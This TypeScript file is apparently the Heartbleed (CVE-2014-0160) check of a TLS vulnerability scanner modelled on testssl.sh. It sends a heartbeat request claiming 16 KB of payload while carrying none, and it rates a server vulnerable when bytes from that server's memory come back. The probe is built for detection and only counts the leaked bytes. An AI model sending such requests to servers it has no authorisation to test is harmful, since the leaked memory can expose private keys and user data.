import { cipherSuiteByName, cipherSuitesFor } from "../data/cipher-suites";
import { ByteReader, u8, u16, vector } from "../wire/bytes";
import { buildClientHello, type TlsProtocolId } from "../wire/client-hello";
import { Conversation, type ConversationEnd, type ServerRecord } from "../wire/conversation";
import { ContentType, ExtensionType, HandshakeType } from "../wire/extension-types";
import { parseSafely } from "../wire/parse-result";
import { parseServerHello } from "../wire/server-hello";
import { describeRecordOrEnd } from "./describe";
import { newestLegacy, protocolLabel, suitesFor } from "./offer";
import type { VulnCheck, VulnContext, VulnOutcome } from "./types";

/** peer_allowed_to_send: the mode a client offers the heartbeat extension with (RFC 6520). */
const PEER_ALLOWED_TO_SEND = 1;
const HEARTBEAT_REQUEST = 1;
const HEARTBEAT_RESPONSE = 2;
/** The payload length the request claims, with no payload at all: testssl.sh's 16 KB. */
const CLAIMED_LENGTH = 0x4000;
/**
 * A patched server drops the overlong request silently (RFC 6520 §4), so silence is the usual
 * answer: a vulnerable one answers at once, from memory.
 */
const ANSWER_WAIT_MS = 2_000;
/** Once memory has come, the rest of it follows at once: a short wait collects it. */
const MORE_WAIT_MS = 200;

/**
 * Offered after the suites enumeration saw accepted: what OpenSSL 1.0.1 servers commonly chose,
 * so that the hello still meets a server whose backend here is configured unlike the one
 * enumerated (enumeration ran on other connections).
 */
const COMMON_SUITES = [
  "TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256",
  "TLS_ECDHE_RSA_WITH_AES_128_CBC_SHA",
  "TLS_DHE_RSA_WITH_AES_128_CBC_SHA",
  "TLS_RSA_WITH_AES_128_GCM_SHA256",
  "TLS_RSA_WITH_AES_128_CBC_SHA",
  "TLS_RSA_WITH_AES_256_CBC_SHA",
  "TLS_RSA_WITH_3DES_EDE_CBC_SHA",
];

function offeredSuites(context: VulnContext, version: TlsProtocolId): number[] {
  const valid = new Set(cipherSuitesFor(version));
  const common = COMMON_SUITES.flatMap((name) => {
    const code = cipherSuiteByName(name)?.code;
    return code !== undefined && valid.has(code) ? [code] : [];
  });
  return [...new Set([...suitesFor(context, version), ...common])];
}

/** A heartbeat_request record claiming CLAIMED_LENGTH bytes of payload and carrying none. */
const heartbeatRequest = (wireVersion: number): Buffer =>
  Buffer.concat([
    u8(ContentType.heartbeat),
    u16(wireVersion),
    vector(2, u8(HEARTBEAT_REQUEST), u16(CLAIMED_LENGTH)),
  ]);

/** The heartbeat records that answered, joined, and the record or end that came after them. */
async function readAnswer(
  conversation: Conversation,
  waitMs: number,
): Promise<{ heartbeat: Buffer; after: ServerRecord | ConversationEnd }> {
  const parts: Buffer[] = [];
  for (;;) {
    const answer = await conversation.nextRecord(parts.length ? MORE_WAIT_MS : waitMs);
    if (!("type" in answer) || answer.type !== ContentType.heartbeat)
      return { heartbeat: Buffer.concat(parts), after: answer };
    parts.push(answer.body);
  }
}

/** testssl.sh's verdict: heartbeat data back is memory; an alert, a close or silence is not. */
function classify(sent: string, heartbeat: Buffer, after: ServerRecord | ConversationEnd): VulnOutcome {
  if (heartbeat.length > 0) {
    const response = parseSafely(() => {
      const reader = new ByteReader(heartbeat);
      return { type: reader.u8(), payloadLength: reader.u16(), returned: reader.remaining };
    });
    if (!response.ok || response.value.type !== HEARTBEAT_RESPONSE)
      return {
        status: "incomplete",
        reason: `sent ${sent}; it answered with a heartbeat record that is no response, which tells neither way`,
      };
    // Our payload was empty: whatever payload comes back was never ours (the rest is padding).
    const leaked = Math.min(response.value.payloadLength, response.value.returned);
    return leaked > 0
      ? {
          status: "vulnerable",
          detail: `Sent ${sent}: the server answered with ${leaked} bytes, read from its memory.`,
        }
      : { status: "ok", detail: `Sent ${sent}: the server answered with an empty heartbeat response.` };
  }
  const noMemory =
    "end" in after ? after.end === "timeout" || after.end === "closed" : after.type === ContentType.alert;
  return noMemory
    ? {
        status: "ok",
        detail: `Sent ${sent}: the server answered with ${describeRecordOrEnd(after)}, no memory.`,
      }
    : {
        status: "incomplete",
        reason: `sent ${sent}; it answered with ${describeRecordOrEnd(after)}, which tells neither way`,
      };
}

/**
 * CVE-2014-0160 (OpenSSL 1.0.1–1.0.1f): a heartbeat request whose payload length claims more than
 * it carries is answered with that many bytes of the server's memory. Probed as testssl.sh does,
 * and only when the ServerHello takes the heartbeat extension up: without it there is nothing to
 * probe.
 */
export const heartbleed: VulnCheck = {
  id: "vuln.heartbleed",
  applies: (context) => newestLegacy(context) !== undefined,
  async run(target, context) {
    const version = newestLegacy(context)!;
    const conversation = await Conversation.open(target);
    if (!(conversation instanceof Conversation))
      return { status: "incomplete", reason: `could not connect (${describeRecordOrEnd(conversation)})` };
    try {
      conversation.send(
        buildClientHello({
          version,
          cipherSuites: offeredSuites(context, version),
          servername: target.servername,
          extraExtensions: [[ExtensionType.heartbeat, Buffer.of(PEER_ALLOWED_TO_SEND)]],
        }),
      );
      const offered = `a ${protocolLabel(version)} hello offering heartbeats`;
      const flight = await conversation.handshakeUntil(HandshakeType.serverHelloDone);
      const [type, body] = flight.messages[0] ?? [];
      const hello = type === HandshakeType.serverHello && body ? parseServerHello(body) : undefined;
      if (!hello?.ok) {
        const why = "stop" in flight ? describeRecordOrEnd(flight.stop) : "no ServerHello";
        return { status: "incomplete", reason: `${offered} got ${why}` };
      }
      if (!hello.value.extensions.includes(ExtensionType.heartbeat))
        return {
          status: "not_applicable",
          detail: `A ${protocolLabel(version)} hello offering heartbeats: the server does not take the heartbeat extension up.`,
        };
      // A request sent after the server gave up would meet a closed connection, not a patched server.
      if ("stop" in flight)
        return {
          status: "incomplete",
          reason: `${offered} got a ServerHello taking them up, then ${describeRecordOrEnd(flight.stop)} before ServerHelloDone`,
        };
      // The record version the server negotiated: OpenSSL refuses records of any other.
      conversation.send(heartbeatRequest(hello.value.version));
      const { heartbeat, after } = await readAnswer(conversation, Math.min(ANSWER_WAIT_MS, target.timeoutMs));
      return classify(
        `a heartbeat request claiming ${CLAIMED_LENGTH} bytes of payload and carrying none`,
        heartbeat,
        after,
      );
    } finally {
      conversation.close();
    }
  },
};
